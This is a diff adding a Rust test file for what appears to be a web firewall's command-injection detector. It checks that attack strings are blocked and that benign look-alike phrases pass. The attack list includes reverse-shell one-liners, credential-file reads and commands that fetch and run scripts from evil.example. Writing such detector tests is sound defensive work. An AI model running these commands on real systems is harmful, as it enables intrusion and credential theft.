@@ -1,0 +1,66 @@
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+use crate::detect::score_of;
+use crate::extract::Origin;
+use crate::settings::Class;
+
+const BLOCK: u32 = 60;
+
+fn s(t: &str) -> u32 {
+    score_of(t, Origin::ParamValue, Class::Cmdi)
+}
+
+#[test]
+fn attack_variants_block() {
+    let attacks = [
+        "; cat /etc/passwd",
+        "| id",
+        "&& whoami",
+        "`uname -a`",
+        "$(curl http://evil.example/x.sh | sh)",
+        "127.0.0.1; ls -la",
+        "x || wget http://evil.example/a -O /tmp/a",
+        "c'a't /etc/passwd",
+        "c\\at /etc/shadow",
+        ";cat${IFS}/etc/passwd",
+        "; /bin/sh -i",
+        "nc -e /bin/sh 10.0.0.1 4444",
+        "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
+        "() { :; }; /bin/bash -c id",
+        "{cat,/etc/passwd}",
+        "& ipconfig /all",
+        "| powershell -enc SQBFAFgA",
+        "for /f %i in ('whoami') do echo %i",
+        "; sleep 5 ;",
+        "a;$u wget evil.example",
+        "/usr/bin/[u]name -a",
+        "%0aid",
+    ];
+    for a in attacks {
+        let decoded = crate::decode::normalize(a, false);
+        let sc = s(a).max(s(&decoded));
+        assert!(sc >= BLOCK, "should block {a:?}: {sc}");
+    }
+}
+
+#[test]
+fn look_alike_legit_passes() {
+    let legit = [
+        "Tom & Jerry",
+        "R&D department",
+        "salt; pepper; cat food",
+        "TL;DR: it works | more or less",
+        "Watch more videos → https://example.com",
+        "nice to see you again",
+        "I sleep 8 hours; then I wake up",
+        "Q&A session at 5",
+        "Fate (AZ) Chocolate Stout",
+        "find the best price",
+        "Set 8 mini cupcakes",
+        "sh",
+        "echo chamber",
+        "Please ping me when ready",
+    ];
+    for l in legit {
+        assert!(s(l) < BLOCK, "should pass {l:?}: {}", s(l));
+    }
+}
